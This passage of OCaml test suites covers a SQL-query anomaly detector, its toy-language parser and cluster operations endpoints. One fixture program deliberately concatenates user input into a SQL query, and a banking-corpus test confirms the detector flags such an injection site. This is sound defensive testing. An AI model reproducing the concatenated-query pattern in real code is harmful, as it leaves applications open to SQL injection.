       let id = atoi(scanf());
       pq_exec(conn, strcat("SELECT b FROM t WHERE a = ", to_string(id)));
       pq_exec(conn, "SELECT a FROM t");
     } |}

let gate_setup () =
  let outs = List.map (fun i -> run_src ~input:[ string_of_int i ] gate_src) [ 1; 2; 3 ] in
  let profile = Adprom.Qsig.profile (Adprom.Audit.learn outs) in
  let static = infer_src gate_src in
  (* the traffic mix: in-profile bound texts, an out-of-program shape,
     and a malformed text *)
  let traffic =
    List.concat_map (fun (o : Interp.outcome) -> List.map fst o.Interp.query_log) outs
    @ [ "SELECT secret FROM elsewhere WHERE x = 1"; "SELECT FROM FROM (" ]
  in
  (profile, static, traffic)

let verdicts engine traffic = List.map (fun sql -> Engine.check engine sql) traffic

let test_trained_contained_in_static () =
  let profile, static, _ = gate_setup () in
  Alcotest.(check bool) "complete" true static.Qstatic.complete;
  Alcotest.(check bool) "trained subset of static" true
    (subset (Adprom_qsig.Profile.signatures profile) static.Qstatic.signatures)

let test_gate_explain_bit_for_bit () =
  let profile, static, traffic = gate_setup () in
  let off = Engine.create profile in
  let explain = Engine.create profile in
  Engine.set_static_signatures explain ~complete:static.Qstatic.complete
    static.Qstatic.signatures;
  Alcotest.(check bool) "loaded" true (Engine.static_signatures_loaded explain);
  Alcotest.(check bool) "explain by default" false (Engine.gate_enforced explain);
  let v_off = verdicts off traffic and v_explain = verdicts explain traffic in
  Alcotest.(check (list string)) "verdicts bit-for-bit"
    (List.map Engine.verdict_to_string v_off)
    (List.map Engine.verdict_to_string v_explain);
  Alcotest.(check bool) "identical records" true (v_off = v_explain);
  Alcotest.(check int) "off engine: no gate checks" 0 (Engine.gate_checks off);
  Alcotest.(check int) "every check gated" (List.length traffic)
    (Engine.gate_checks explain);
  (* the impossible shape is counted, the malformed text is not *)
  Alcotest.(check int) "one would-be rejection" 1 (Engine.gate_rejections explain)

let test_gate_enforce_subset_of_strict () =
  let profile, static, traffic = gate_setup () in
  let strict = Engine.create ~policy:Adprom_qsig.Constraints.Strict profile in
  let enforce = Engine.create ~policy:Adprom_qsig.Constraints.Strict profile in
  Engine.set_static_signatures enforce ~complete:static.Qstatic.complete
    static.Qstatic.signatures;
  Engine.set_gate_enforce enforce true;
  List.iter2
    (fun sql (v_strict, v_enforce) ->
      if v_enforce.Engine.anomalous then
        Alcotest.(check bool)
          (Printf.sprintf "gate-rejected %S also strict-anomalous" sql)
          true v_strict.Engine.anomalous)
    traffic
    (List.combine (verdicts strict traffic) (verdicts enforce traffic));
  Alcotest.(check bool) "impossible shape rejected by the gate" true
    (match Engine.check enforce "SELECT secret FROM elsewhere WHERE x = 1" with
    | { Engine.anomalous = true; reasons = [ Engine.Impossible_signature _ ] } ->
        true
    | _ -> false)

let test_gate_incomplete_never_rejects () =
  let profile, _, traffic = gate_setup () in
  let engine = Engine.create profile in
  (* an incomplete (under-approximating) static set must not reject,
     even under enforce and even when empty *)
  Engine.set_static_signatures engine ~complete:false [];
  Engine.set_gate_enforce engine true;
  ignore (verdicts engine traffic);
  Alcotest.(check int) "checks counted" (List.length traffic)
    (Engine.gate_checks engine);
  Alcotest.(check int) "no rejections" 0 (Engine.gate_rejections engine)

let test_gate_load_flushes_memo () =
  let profile, static, _ = gate_setup () in
  let engine = Engine.create profile in
  Engine.set_gate_enforce engine true;
  let sql = "SELECT secret FROM elsewhere WHERE x = 1" in
  let before = Engine.check engine sql in
  Alcotest.(check bool) "unknown before the static set loads" true
    (List.exists
       (function Engine.Unknown_signature _ -> true | _ -> false)
       before.Engine.reasons);
  Engine.set_static_signatures engine ~complete:true static.Qstatic.signatures;
  let after = Engine.check engine sql in
  Alcotest.(check bool) "gate-rejected after (memo flushed)" true
    (after.Engine.reasons
    = [
        Engine.Impossible_signature
          (match before.Engine.reasons with
          | Engine.Unknown_signature key :: _ -> key
          | _ -> "");
      ])

(* --- the banking corpus: complete, contained, and the sqli site found ------- *)

let test_banking_static_profile () =
  let app = Dataset.Ca_banking.app () in
  let analysis = Pipeline.analyze_app app in
  let static = Qstatic.infer analysis.Analysis.Analyzer.pruned_cfgs in
  Alcotest.(check bool) "banking inference complete" true static.Qstatic.complete;
  let qsig = Pipeline.train_qsig ~analysis app in
  let trained = Adprom_qsig.Profile.signatures (Adprom.Qsig.profile qsig) in
  Alcotest.(check bool) "trained signatures all statically emittable" true
    (subset trained static.Qstatic.signatures);
  (* the Attack 5 surface: lookup_client concatenates the account id *)
  match
    List.find_opt
      (fun (s : Qstatic.site) ->
        s.Qstatic.func = "lookup_client" && s.Qstatic.injectable <> None)
      static.Qstatic.sites
  with
  | None -> Alcotest.fail "banking lookup_client injection site not flagged"
  | Some s ->
      Alcotest.(check bool) "witness from scanf" true
        (match Option.get s.Qstatic.injectable with
        | "scanf" :: _ -> true
        | _ -> false)

(* -------------------------------------------------------------------------- *)

let () =
  Alcotest.run "qstatic"
    [
      ( "inference",
        [
          Alcotest.test_case "constant query" `Quick test_constant_query;
          Alcotest.test_case "loop widening arity classes" `Quick
            test_loop_widening_arity_classes;
          Alcotest.test_case "loop runtime contained" `Quick
            test_loop_runtime_contained;
          Alcotest.test_case "sprintf interpolation" `Quick
            test_sprintf_interpolation;
          Alcotest.test_case "prepare covers bound traffic" `Quick
            test_prepare_site_covers_bound_traffic;
          Alcotest.test_case "query log program order" `Quick
            test_query_log_program_order;
        ] );
      ( "injection",
        [
          Alcotest.test_case "injectable witness" `Quick
            test_injectable_site_witness;
          Alcotest.test_case "sanitized input clean" `Quick
            test_sanitized_input_not_injectable;
        ] );
      ( "soundness",
        [ QCheck_alcotest.to_alcotest prop_soundness ] );
      ( "gate",
        [
          Alcotest.test_case "trained contained in static" `Quick
            test_trained_contained_in_static;
          Alcotest.test_case "explain bit-for-bit" `Quick
            test_gate_explain_bit_for_bit;
          Alcotest.test_case "enforce subset of strict" `Quick
            test_gate_enforce_subset_of_strict;
          Alcotest.test_case "incomplete never rejects" `Quick
            test_gate_incomplete_never_rejects;
          Alcotest.test_case "load flushes memo" `Quick
            test_gate_load_flushes_memo;
        ] );
      ( "corpus",
        [ Alcotest.test_case "banking static profile" `Quick test_banking_static_profile ] );
    ]

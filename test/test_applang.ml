(* Tests for the AppLang substrate: lexer, parser, pretty-printer
   (round-trip property) and library-call specification. *)

module Ast = Applang.Ast
module Lexer = Applang.Lexer
module Token = Applang.Token
module Parser = Applang.Parser
module Pretty = Applang.Pretty
module Libspec = Applang.Libspec

(* --- lexer ------------------------------------------------------------- *)

let tokens src = List.map (fun (t : Token.located) -> t.Token.token) (Lexer.tokenize src)

let test_lexer_basic () =
  Alcotest.(check bool) "keywords and idents" true
    (tokens "fun main() { let x = 1; }"
    = [
        Token.KW_FUN; Token.IDENT "main"; Token.LPAREN; Token.RPAREN; Token.LBRACE;
        Token.KW_LET; Token.IDENT "x"; Token.ASSIGN; Token.INT 1; Token.SEMI;
        Token.RBRACE; Token.EOF;
      ])

let test_lexer_operators () =
  Alcotest.(check bool) "two-char operators" true
    (tokens "== != <= >= && || < > ! ="
    = [
        Token.EQEQ; Token.BANGEQ; Token.LE; Token.GE; Token.AMPAMP; Token.PIPEPIPE;
        Token.LT; Token.GT; Token.BANG; Token.ASSIGN; Token.EOF;
      ])

let test_lexer_strings () =
  Alcotest.(check bool) "escapes" true
    (tokens {|"a\nb\t\"q\\"|} = [ Token.STRING "a\nb\t\"q\\"; Token.EOF ])

let test_lexer_comments () =
  Alcotest.(check bool) "line and block comments skipped" true
    (tokens "1 // comment\n/* multi\nline */ 2" = [ Token.INT 1; Token.INT 2; Token.EOF ])

let test_lexer_positions () =
  match Lexer.tokenize "fun\n  main" with
  | [ f; m; _eof ] ->
      Alcotest.(check (pair int int)) "fun at 1:1" (1, 1) (f.Token.line, f.Token.col);
      Alcotest.(check (pair int int)) "main at 2:3" (2, 3) (m.Token.line, m.Token.col)
  | _ -> Alcotest.fail "unexpected token count"

let test_lexer_errors () =
  let fails src =
    match Lexer.tokenize src with
    | _ -> Alcotest.failf "expected lexer error on %S" src
    | exception Lexer.Error _ -> ()
  in
  fails "\"unterminated";
  fails "a $ b";
  fails "a & b";
  fails "/* never closed"

(* --- parser ------------------------------------------------------------ *)

let test_parser_precedence () =
  let e = Parser.parse_expr "1 + 2 * 3 == 7 && !(x < 4) || y" in
  (* ((1 + (2 * 3)) == 7 && !(x < 4)) || y *)
  match e with
  | Ast.Binop (Ast.Or, Ast.Binop (Ast.And, Ast.Binop (Ast.Eq, lhs, Ast.Int 7), _), Ast.Var "y")
    -> (
      match lhs with
      | Ast.Binop (Ast.Add, Ast.Int 1, Ast.Binop (Ast.Mul, Ast.Int 2, Ast.Int 3)) -> ()
      | _ -> Alcotest.fail "mul must bind tighter than add")
  | _ -> Alcotest.fail "wrong precedence structure"

let test_parser_statements () =
  let p =
    Parser.parse_program
      {|
        fun main() {
          let i = 0;
          for (let k = 0; k < 3; k = k + 1) {
            i = i + k;
          }
          while (i > 0) {
            i = i - 1;
            if (i == 1) { break; } else { continue; }
          }
          return i;
        }
      |}
  in
  match Ast.find_func p "main" with
  | Some f -> Alcotest.(check int) "five top-level statements" 4 (List.length f.Ast.body)
  | None -> Alcotest.fail "no main"

let test_parser_else_if_chain () =
  let p = Parser.parse_program "fun f(x) { if (x == 1) { g(); } else if (x == 2) { h(); } else { k(); } }" in
  match (Option.get (Ast.find_func p "f")).Ast.body with
  | [ Ast.If (_, _, [ Ast.If (_, _, [ Ast.Expr (Ast.Call ("k", [])) ]) ]) ] -> ()
  | _ -> Alcotest.fail "else-if chain shape"

let test_parser_index_and_calls () =
  match Parser.parse_expr "f(row[0], g(1)[2])" with
  | Ast.Call ("f", [ Ast.Index (Ast.Var "row", Ast.Int 0); Ast.Index (Ast.Call ("g", [ Ast.Int 1 ]), Ast.Int 2) ]) -> ()
  | _ -> Alcotest.fail "call/index structure"

let test_parser_errors () =
  let fails src =
    match Parser.parse_program src with
    | _ -> Alcotest.failf "expected parse error on %S" src
    | exception Parser.Error _ -> ()
  in
  fails "fun f( {}";
  fails "fun f() { let = 3; }";
  fails "fun f() { if x { } }";
  fails "fun f() { return 1 }";
  fails "fun f() {} garbage"

let test_calls_in_expr_order () =
  let e = Parser.parse_expr "outer(a(), b(c()), 3)" in
  let names =
    List.map
      (fun call -> match call with Ast.Call (n, _) -> n | _ -> assert false)
      (Ast.calls_in_expr e)
  in
  Alcotest.(check (list string)) "evaluation order" [ "a"; "c"; "b"; "outer" ] names

(* --- pretty round trip -------------------------------------------------- *)

let roundtrip src =
  let p = Parser.parse_program src in
  let printed = Pretty.program_to_string p in
  let p' = Parser.parse_program printed in
  Alcotest.(check bool) "round trip preserves the AST" true (Ast.equal_program p p')

let test_roundtrip_fixed () =
  roundtrip
    {|
      fun main() {
        let s = "he said \"hi\"\n";
        let x = -(3 + 4) * 2;
        if (x < 0 && !(s == "")) {
          printf("%d", x);
        } else {
          while (x > 0) { x = x - 1; }
        }
        for (let i = 0; i < 10; i = i + 2) { f(i, s[i]); }
        return;
      }
      fun f(a, b) { return a + 1; }
    |}

let test_roundtrip_datasets () =
  (* The real subject applications must round trip too. *)
  List.iter roundtrip
    [ Dataset.Ca_hospital.source; Dataset.Ca_banking.source; Dataset.Ca_supermarket.source ]

let test_negative_int_literals () =
  (* [-5] and [(-5)] are the literal; an explicit negation prints as
     [-(5)] so neither form collapses into the other on reparse. *)
  Alcotest.(check bool) "-5 is a literal" true (Parser.parse_expr "-5" = Ast.Int (-5));
  Alcotest.(check bool) "(-5) is a literal" true
    (Parser.parse_expr "(-5)" = Ast.Int (-5));
  Alcotest.(check bool) "negation of a variable survives" true
    (Parser.parse_expr "-x" = Ast.Unop (Ast.Neg, Ast.Var "x"));
  let reprint e = Parser.parse_expr (Pretty.expr_to_string e) in
  Alcotest.(check bool) "Int (-5) round trips" true (reprint (Ast.Int (-5)) = Ast.Int (-5));
  let neg5 = Ast.Unop (Ast.Neg, Ast.Int 5) in
  Alcotest.(check bool) "Neg (Int 5) round trips" true (reprint neg5 = neg5);
  let negneg = Ast.Unop (Ast.Neg, neg5) in
  Alcotest.(check bool) "Neg (Neg (Int 5)) round trips" true (reprint negneg = negneg)

(* qcheck: generate random expressions, print, reparse, compare. *)
let expr_gen_sized =
  let open QCheck2.Gen in
  fix (fun self n ->
      let leaf =
        oneof
          [
            map (fun i -> Ast.Int i) small_signed_int;
            map (fun s -> Ast.Str s) (string_size ~gen:(char_range 'a' 'z') (int_range 0 5));
            pure (Ast.Bool true);
            pure Ast.Null;
            map (fun c -> Ast.Var (String.make 1 c)) (char_range 'a' 'e');
          ]
      in
      if n <= 0 then leaf
      else
        oneof
          [
            leaf;
            map3
              (fun op a b -> Ast.Binop (op, a, b))
              (oneofl
                 [ Ast.Add; Ast.Sub; Ast.Mul; Ast.Div; Ast.Eq; Ast.Lt; Ast.And; Ast.Or ])
              (self (n / 2)) (self (n / 2));
            map (fun a -> Ast.Unop (Ast.Not, a)) (self (n / 2));
            map (fun a -> Ast.Unop (Ast.Neg, a)) (self (n / 2));
            map2 (fun a b -> Ast.Index (a, b)) (self (n / 2)) (self (n / 2));
            map2 (fun n args -> Ast.Call (n, args))
              (oneofl [ "f"; "g"; "printf" ])
              (list_size (int_range 0 3) (self (n / 3)));
          ])

let expr_gen = QCheck2.Gen.sized expr_gen_sized

let prop_expr_roundtrip =
  QCheck2.Test.make ~name:"expression print/parse round trip" ~count:300
    ~print:Pretty.expr_to_string expr_gen (fun e ->
      let printed = Pretty.expr_to_string e in
      match Parser.parse_expr printed with
      | e' -> Ast.equal_expr e e'
      | exception _ -> false)

(* qcheck: generate random whole programs, print, reparse, compare. *)
let ident_gen = QCheck2.Gen.(map (String.make 1) (char_range 'a' 'e'))

let stmt_gen_sized =
  let open QCheck2.Gen in
  fix (fun self n ->
      let e = expr_gen_sized (min n 4) in
      let block = list_size (int_range 0 3) (self (n / 2)) in
      let leaf =
        oneof
          [
            map2 (fun v x -> Ast.Let (v, x)) ident_gen e;
            map2 (fun v x -> Ast.Assign (v, x)) ident_gen e;
            map (fun x -> Ast.Expr x) e;
            pure (Ast.Return None);
            map (fun x -> Ast.Return (Some x)) e;
            pure Ast.Break;
            pure Ast.Continue;
          ]
      in
      if n <= 0 then leaf
      else
        oneof
          [
            leaf;
            map3 (fun c t el -> Ast.If (c, t, el)) e block block;
            map2 (fun c b -> Ast.While (c, b)) e block;
            (let header = map2 (fun v x -> Ast.Assign (v, x)) ident_gen e in
             map3 (fun init (c, step) b -> Ast.For (init, c, step, b))
               (oneof [ map2 (fun v x -> Ast.Let (v, x)) ident_gen e; header ])
               (pair e header) block);
          ])

let program_gen =
  let open QCheck2.Gen in
  let func name =
    map2
      (fun params body -> { Ast.name; params; body })
      (list_size (int_range 0 2) ident_gen)
      (list_size (int_range 0 4) (sized_size (int_range 0 5) stmt_gen_sized))
  in
  map2
    (fun main fs -> { Ast.funcs = main :: fs })
    (func "main")
    (map2 (fun f g -> [ f; g ]) (func "f") (func "g"))

let prop_program_roundtrip =
  QCheck2.Test.make ~name:"program print/parse round trip" ~count:200
    ~print:Pretty.program_to_string program_gen (fun p ->
      let printed = Pretty.program_to_string p in
      match Parser.parse_program printed with
      | p' -> Ast.equal_program p p'
      | exception _ -> false)

(* --- libspec ------------------------------------------------------------ *)

let test_libspec () =
  Alcotest.(check bool) "printf is a sink" true (Libspec.is_sink "printf");
  Alcotest.(check bool) "pq_exec is a source" true (Libspec.is_source "pq_exec");
  Alcotest.(check bool) "strcat propagates" true (Libspec.taint_of "strcat" = Libspec.Propagate);
  Alcotest.(check bool) "scanf is clean" true (Libspec.taint_of "scanf" = Libspec.Clean);
  Alcotest.(check bool) "synthetic lib_ calls are builtins" true (Libspec.is_builtin "lib_42");
  Alcotest.(check bool) "unknown name is not a builtin" false (Libspec.is_builtin "no_such_call");
  Alcotest.(check bool) "sprintf is both sink and propagate" true
    (Libspec.is_sink "sprintf" && Libspec.taint_of "sprintf" = Libspec.Propagate)

let () =
  Alcotest.run "applang"
    [
      ( "lexer",
        [
          Alcotest.test_case "basic tokens" `Quick test_lexer_basic;
          Alcotest.test_case "operators" `Quick test_lexer_operators;
          Alcotest.test_case "string escapes" `Quick test_lexer_strings;
          Alcotest.test_case "comments" `Quick test_lexer_comments;
          Alcotest.test_case "positions" `Quick test_lexer_positions;
          Alcotest.test_case "errors" `Quick test_lexer_errors;
        ] );
      ( "parser",
        [
          Alcotest.test_case "precedence" `Quick test_parser_precedence;
          Alcotest.test_case "statements" `Quick test_parser_statements;
          Alcotest.test_case "else-if chain" `Quick test_parser_else_if_chain;
          Alcotest.test_case "calls and indexing" `Quick test_parser_index_and_calls;
          Alcotest.test_case "errors" `Quick test_parser_errors;
          Alcotest.test_case "calls_in_expr order" `Quick test_calls_in_expr_order;
        ] );
      ( "pretty",
        [
          Alcotest.test_case "fixed program round trip" `Quick test_roundtrip_fixed;
          Alcotest.test_case "dataset sources round trip" `Quick test_roundtrip_datasets;
          Alcotest.test_case "negative int literals" `Quick test_negative_int_literals;
          QCheck_alcotest.to_alcotest prop_expr_roundtrip;
          QCheck_alcotest.to_alcotest prop_program_roundtrip;
        ] );
      ("libspec", [ Alcotest.test_case "taint/sink classification" `Quick test_libspec ]);
    ]

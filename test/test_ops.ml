(* Tests for the cluster operations plane: the HTTP exposition served
   on the same port as both wires (/metrics, /healthz, /incidents), the
   fleet health rollup (merge_snapshots as a QCheck2 property against a
   manual fold), version skew (a new router against an old node keeps
   verdicts bit-for-bit), log-file rotation, and the multi-process
   Chrome trace merge. *)

module Codec = Adprom_service.Codec
module Transport = Adprom_service.Transport
module Frame = Adprom_service.Frame
module Server = Adprom_service.Server
module Cluster = Adprom_service.Cluster
module Daemon = Adprom_service.Daemon
module Replay = Adprom_service.Replay
module Metrics = Adprom_service.Metrics
module Health = Adprom_service.Health
module Log = Adprom_obs.Log
module Trace = Adprom_obs.Trace
module Detector = Adprom.Detector
module Pipeline = Adprom.Pipeline
module Sessions = Adprom.Sessions
module Symbol = Analysis.Symbol

let contains ~needle hay =
  let nl = String.length needle and hl = String.length hay in
  if nl = 0 then true
  else begin
    let found = ref false in
    for i = 0 to hl - nl do
      if (not !found) && String.sub hay i nl = needle then found := true
    done;
    !found
  end

let count ~needle hay =
  let nl = String.length needle and hl = String.length hay in
  let c = ref 0 in
  if nl > 0 then
    for i = 0 to hl - nl do
      if String.sub hay i nl = needle then incr c
    done;
  !c

(* --- fixture: the same tiny trained app the cluster tests use -------------- *)

let fixture =
  lazy
    (let app =
       {
         Pipeline.name = "svc";
         source =
           {|
             fun main() {
               let db = db_connect("pg");
               let n = atoi(gets());
               for (let i = 0; i < n; i = i + 1) {
                 let r = pq_exec(db, "SELECT name FROM t");
                 let k = pq_ntuples(r);
                 for (let j = 0; j < k; j = j + 1) { printf("%s\n", pq_getvalue(r, j, 0)); }
               }
             }
           |};
         dbms = "PostgreSQL";
         setup_db =
           (fun e ->
             ignore (Sqldb.Engine.exec e "CREATE TABLE t (name)");
             ignore (Sqldb.Engine.exec e "INSERT INTO t VALUES ('a'), ('b')"));
         test_cases =
           List.init 6 (fun i ->
               Runtime.Testcase.make
                 ~input:[ string_of_int (1 + (i mod 3)) ]
                 (Printf.sprintf "c%d" i));
       }
     in
     let ds = Pipeline.collect app in
     (Pipeline.train ds, List.map snd ds.Pipeline.traces))

let stream_items () =
  let _, traces = Lazy.force fixture in
  let rng = Mlkit.Rng.create 41 in
  Array.map (fun ev -> Transport.Call ev) (Sessions.interleave ~rng traces)

(* --- HTTP exposition on the serve port -------------------------------------- *)

(* one raw request, read to EOF (the server closes after each response) *)
let http_request ~port request =
  let fd = Unix.socket Unix.PF_INET Unix.SOCK_STREAM 0 in
  Unix.connect fd (Unix.ADDR_INET (Unix.inet_addr_loopback, port));
  let b = Bytes.of_string request in
  let rec write_all pos =
    if pos < Bytes.length b then
      write_all (pos + Unix.write fd b pos (Bytes.length b - pos))
  in
  write_all 0;
  let buf = Buffer.create 1024 and chunk = Bytes.create 4096 in
  let rec read_all () =
    match Unix.read fd chunk 0 (Bytes.length chunk) with
    | 0 -> ()
    | n ->
        Buffer.add_subbytes buf chunk 0 n;
        read_all ()
    | exception Unix.Unix_error ((Unix.ECONNRESET | Unix.EPIPE), _, _) -> ()
  in
  read_all ();
  Unix.close fd;
  Buffer.contents buf

let http_get ~port target =
  http_request ~port
    (Printf.sprintf "GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" target)

let status_of_response resp =
  match String.index_opt resp ' ' with
  | Some i when String.length resp >= i + 4 ->
      int_of_string_opt (String.sub resp (i + 1) 3)
  | _ -> None

let body_of_response resp =
  let rec find i =
    if i + 3 >= String.length resp then String.length resp
    else if String.sub resp i 4 = "\r\n\r\n" then i + 4
    else find (i + 1)
  in
  let i = find 0 in
  String.sub resp i (String.length resp - i)

let check_status what expected resp =
  Alcotest.(check (option int)) (what ^ " status") (Some expected)
    (status_of_response resp)

let test_http_endpoints () =
  let profile, _ = Lazy.force fixture in
  let node =
    Cluster.spawn_local ~name:"web" (fun socket ->
        ignore (Server.serve ~socket ~name:"web" ~shards:2 profile))
  in
  let port = node.Cluster.port in
  (* /healthz: a fresh node is healthy, and the body is the Health JSON *)
  let hz = http_get ~port "/healthz" in
  check_status "/healthz" 200 hz;
  Alcotest.(check bool) "/healthz content-type json" true
    (contains ~needle:"Content-Type: application/json" hz);
  let hz_body = body_of_response hz in
  Alcotest.(check bool) "/healthz says ok" true
    (contains ~needle:"\"status\":\"ok\"" hz_body);
  Alcotest.(check bool) "/healthz names the node" true
    (contains ~needle:"\"node\":\"web\"" hz_body);
  (* /metrics: Prometheus text with the HELP/TYPE preamble and the full
     cumulative bucket series of the e2e histogram *)
  let m = http_get ~port "/metrics" in
  check_status "/metrics" 200 m;
  let mb = body_of_response m in
  List.iter
    (fun needle ->
      Alcotest.(check bool)
        (Printf.sprintf "/metrics has %S" needle)
        true (contains ~needle mb))
    [
      "# TYPE adprom_e2e_latency_seconds histogram";
      "adprom_e2e_latency_seconds_bucket{le=\"+Inf\"}";
      "# TYPE adprom_queue_wait_seconds histogram";
      "# TYPE adprom_http_requests_total counter";
    ];
  (* /incidents: a JSON tail, empty on a quiet node *)
  let inc = http_get ~port "/incidents?n=5" in
  check_status "/incidents" 200 inc;
  Alcotest.(check bool) "/incidents is a JSON tail" true
    (contains ~needle:"\"incidents\":[" (body_of_response inc));
  (* error paths: unknown target and a bad n= *)
  check_status "unknown path" 404 (http_get ~port "/nope");
  check_status "bad n=" 400 (http_get ~port "/incidents?n=bogus");
  (* HEAD answers the header only *)
  let head =
    http_request ~port "HEAD /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
  in
  check_status "HEAD /healthz" 200 head;
  Alcotest.(check string) "HEAD body empty" "" (body_of_response head);
  (* the binary wire still works on the same port: drain via a router *)
  let peers =
    [ { Cluster.peer_name = "web"; host = "127.0.0.1"; port } ]
  in
  (match Cluster.Router.connect peers with
  | Error e -> Alcotest.failf "connect: %s" e
  | Ok router -> (
      match Cluster.Router.finish router with
      | Error e -> Alcotest.failf "finish: %s" e
      | Ok _ -> ()));
  Cluster.wait_local node

(* --- fleet rollup = manual fold (QCheck2) ------------------------------------ *)

let hist_bounds = [| 0.1; 1.0 |]

let gen_snapshot =
  QCheck2.Gen.(
    let gauge =
      map
        (fun (v, extra) -> ("g_depth", v, v + extra))
        (pair (int_range 0 1000) (int_range 0 1000))
    in
    let hist =
      map
        (fun (b, s) ->
          {
            Metrics.hs_name = "h_lat";
            hs_bounds = hist_bounds;
            hs_buckets = Array.of_list b;
            hs_sum = float_of_int s /. 16.;
            hs_count = List.fold_left ( + ) 0 b;
          })
        (pair
           (flatten_l [ int_range 0 50; int_range 0 50; int_range 0 50 ])
           (int_range 0 1000))
    in
    map3
      (fun (a, b) g h ->
        {
          (* -1 = the counter is absent on this node *)
          Metrics.counters =
            (if a < 0 then [] else [ ("a_total", a) ])
            @ (if b < 0 then [] else [ ("b_total", b) ]);
          gauges = [ g ];
          histograms = [ h ];
        })
      (pair (int_range (-1) 10_000) (int_range (-1) 10_000))
      gauge hist)

let prop_rollup_equals_fold =
  QCheck2.Test.make ~name:"fleet rollup = manual per-metric fold" ~count:200
    QCheck2.Gen.(list_size (int_range 1 5) gen_snapshot)
    (fun snaps ->
      let merged = Metrics.merge_snapshots snaps in
      (* counters sum by name *)
      let sum name =
        List.fold_left
          (fun acc (s : Metrics.snapshot) ->
            acc + Metrics.snapshot_counter s name)
          0 snaps
      in
      List.iter
        (fun name ->
          let expect = sum name in
          let present =
            List.exists
              (fun (s : Metrics.snapshot) ->
                List.mem_assoc name s.Metrics.counters)
              snaps
          in
          let got = Metrics.snapshot_counter merged name in
          if present && got <> expect then
            QCheck2.Test.fail_reportf "counter %s: %d <> %d" name got expect;
          if (not present) && List.mem_assoc name merged.Metrics.counters then
            QCheck2.Test.fail_reportf "counter %s materialized from nothing" name)
        [ "a_total"; "b_total" ];
      (* gauges and watermarks take the max *)
      let gv, gm =
        List.fold_left
          (fun (gv, gm) (s : Metrics.snapshot) ->
            List.fold_left
              (fun (gv, gm) (n, v, m) ->
                if n = "g_depth" then (max gv v, max gm m) else (gv, gm))
              (gv, gm) s.Metrics.gauges)
          (min_int, min_int) snaps
      in
      (match
         List.find_opt (fun (n, _, _) -> n = "g_depth") merged.Metrics.gauges
       with
      | None -> QCheck2.Test.fail_reportf "gauge lost in merge"
      | Some (_, v, m) ->
          if (v, m) <> (gv, gm) then
            QCheck2.Test.fail_reportf "gauge fold: (%d,%d) <> (%d,%d)" v m gv gm);
      (* histograms add bucket-wise, so fleet quantiles come from the
         merged buckets *)
      let buckets =
        List.fold_left
          (fun acc (s : Metrics.snapshot) ->
            match Metrics.snapshot_histogram s "h_lat" with
            | None -> acc
            | Some h ->
                Array.mapi (fun i b -> b + h.Metrics.hs_buckets.(i)) acc)
          [| 0; 0; 0 |] snaps
      in
      match Metrics.snapshot_histogram merged "h_lat" with
      | None -> QCheck2.Test.fail_reportf "histogram lost in merge"
      | Some h ->
          if h.Metrics.hs_buckets <> buckets then
            QCheck2.Test.fail_reportf "bucket fold mismatch";
          if h.Metrics.hs_count <> Array.fold_left ( + ) 0 buckets then
            QCheck2.Test.fail_reportf "count fold mismatch";
          let manual =
            { h with Metrics.hs_buckets = buckets }
          in
          List.for_all
            (fun q ->
              let a = Metrics.hist_quantile h q
              and b = Metrics.hist_quantile manual q in
              a = b || (Float.is_nan a && Float.is_nan b))
            [ 0.5; 0.9; 0.99 ])

(* --- version skew: new router, old node -------------------------------------- *)

let verdict_key (v : Detector.verdict) =
  ( v.Detector.flag,
    Int64.bits_of_float v.Detector.score,
    v.Detector.unknown_symbol,
    v.Detector.unknown_pair )

let session_key (r : Daemon.session_report) =
  ( r.Daemon.session,
    r.Daemon.events,
    r.Daemon.windows,
    r.Daemon.worst,
    List.map verdict_key r.Daemon.verdicts )

let test_version_skew () =
  let profile, _ = Lazy.force fixture in
  let items = stream_items () in
  (* alpha reproduces an old (v1) build; beta speaks the current wire *)
  let node ~version name =
    Cluster.spawn_local ~name (fun socket ->
        ignore (Server.serve ~socket ~name ~version ~shards:2 profile))
  in
  let a = node ~version:1 "alpha" and b = node ~version:2 "beta" in
  let peers =
    [
      { Cluster.peer_name = "alpha"; host = "127.0.0.1"; port = a.Cluster.port };
      { Cluster.peer_name = "beta"; host = "127.0.0.1"; port = b.Cluster.port };
    ]
  in
  let summaries =
    match Cluster.Router.connect peers with
    | Error e -> Alcotest.failf "connect: %s" e
    | Ok router -> (
        Alcotest.(check (list (pair string int)))
          "negotiated versions"
          [ ("alpha", 1); ("beta", 2) ]
          (Cluster.Router.peer_versions router);
        (match Cluster.Router.send_stream router items with
        | Ok () -> ()
        | Error e -> Alcotest.failf "send: %s" e);
        (* v2-only surfaces skip the old node instead of killing it *)
        (match Cluster.Router.clock_sync router with
        | Ok () -> ()
        | Error e -> Alcotest.failf "clock_sync: %s" e);
        (match Cluster.Router.health router with
        | Error e -> Alcotest.failf "health: %s" e
        | Ok nodes ->
            Alcotest.(check (list string))
              "only the v2 node answers health" [ "beta" ] (List.map fst nodes));
        Alcotest.(check int) "no items lost" 0 (Cluster.Router.lost_items router);
        match Cluster.Router.finish router with
        | Error e -> Alcotest.failf "finish: %s" e
        | Ok summaries -> summaries)
  in
  Cluster.wait_local a;
  Cluster.wait_local b;
  let merged = Cluster.merge summaries in
  let single = Replay.run_items ~shards:2 profile items in
  Alcotest.(check bool) "verdicts bit-for-bit across the skew" true
    (List.map session_key single.Replay.summary.Daemon.sessions
    = List.map session_key merged.Frame.summary.Daemon.sessions)

(* --- log rotation ------------------------------------------------------------- *)

let test_log_rotation () =
  let path = Filename.temp_file "adprom_ops_log" ".jsonl" in
  let old_threshold = Log.threshold () in
  Fun.protect
    ~finally:(fun () ->
      Log.set_sink Log.Null;
      Log.set_threshold old_threshold;
      List.iter
        (fun p -> if Sys.file_exists p then Sys.remove p)
        [ path; path ^ ".1" ])
    (fun () ->
      Alcotest.check_raises "zero budget rejected"
        (Invalid_argument "Log.to_file: max_bytes must be > 0") (fun () ->
          Log.to_file ~max_bytes:0 path);
      Log.set_threshold Log.Info;
      Log.to_file ~max_bytes:2048 path;
      for i = 1 to 200 do
        Log.emit Log.Info ~scope:"ops.test"
          (Printf.sprintf "rotation filler line %04d padding-padding-padding" i)
      done;
      Log.set_sink Log.Null;
      let size p = (Unix.stat p).Unix.st_size in
      Alcotest.(check bool) "rotated generation exists" true
        (Sys.file_exists (path ^ ".1"));
      Alcotest.(check bool) "live file within budget" true (size path <= 2048);
      Alcotest.(check bool) "rotated file within budget" true
        (size (path ^ ".1") <= 2048);
      (* no line was torn across the rollover: every line in both
         generations parses back to its message *)
